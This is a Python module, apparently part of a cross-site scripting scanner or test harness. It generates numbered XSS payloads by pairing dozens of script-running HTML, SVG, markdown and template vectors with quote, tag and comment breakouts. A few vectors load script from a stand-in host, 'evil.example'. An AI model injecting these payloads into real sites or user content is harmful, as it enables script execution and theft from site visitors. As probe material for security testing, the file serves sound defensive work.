"""What somebody may write to make a page run it: ways to run a script, behind ways out of where the words stand."""

from itertools import product

# {n} is the number by which the page would tell on itself.
VECTORS = (
    "<script>xss({n})</script>",
    "<ScRiPt >xss({n})</sCrIpT>",
    "<script src=//evil.example/{n}></script>",
    "<script src=/xss-probe?{n}></script>",
    "<img src=x onerror=xss({n})>",
    "<img src=x OnErRoR=xss({n})//",
    "<img/src=`x`onerror=xss({n})>",
    "<img src=/xss-probe?{n}>",
    "<svg onload=xss({n})>",
    "<svg><script>xss({n})</script></svg>",
    "<svg><animate onbegin=xss({n}) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=xss({n})/>#x'>",
    "<body onload=xss({n})>",
    "<iframe srcdoc='<script>parent.xss({n})</script>'></iframe>",
    "<iframe src=javascript:parent.xss({n})></iframe>",
    "<iframe src=/xss-probe?{n}></iframe>",
    "<object data=/xss-probe?{n}></object>",
    "<embed src=/xss-probe?{n}>",
    "<video><source onerror=xss({n})></video>",
    "<audio src=x onerror=xss({n})>",
    "<details open ontoggle=xss({n})>",
    "<input autofocus onfocus=xss({n})>",
    "<textarea autofocus onfocus=xss({n})>",
    "<select autofocus onfocus=xss({n})>",
    "<marquee onstart=xss({n})>",
    "<style>@import '/xss-probe?{n}';</style>",
    "<link rel=stylesheet href=/xss-probe?{n}>",
    "<meta http-equiv=refresh content='0;url=/xss-probe?{n}'>",
    "<base href=//evil.example/{n}/>",
    "<form action=/xss-probe?{n}><button autofocus onfocus=xss({n})>",
    "<math><mtext><table><mglyph><style><img src=x onerror=xss({n})>",
    "<a href=javascript:xss({n}) autofocus onfocus=xss({n})>x</a>",
    "[x](javascript:xss({n}))",
    "![x](/xss-probe?{n})",
    "javascript:xss({n})",
    "{{{{constructor.constructor('xss({n})')()}}}}",
    "${{xss({n})}}",
    "&lt;script&gt;xss({n})&lt;/script&gt;",
    "\\u003cimg src=x onerror=xss({n})\\u003e",
    "%3Cimg%20src=x%20onerror=xss({n})%3E",
)
BREAKS = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    '" autofocus onfocus="xss({n})" x="',
    "*_~",
    "```",
)


def payloads(limit: int = 0) -> list[str]:
    """All of them, or `limit` spread over all; number N calls `xss(N)` or asks for something with N in its address."""
    pairs = list(product(BREAKS, VECTORS))
    step = max(1, len(pairs) // limit) if limit else 1
    chosen = pairs[::step][: limit or None]
    return [f"{way_out}{vector}".format(n=number) for number, (way_out, vector) in enumerate(chosen)]
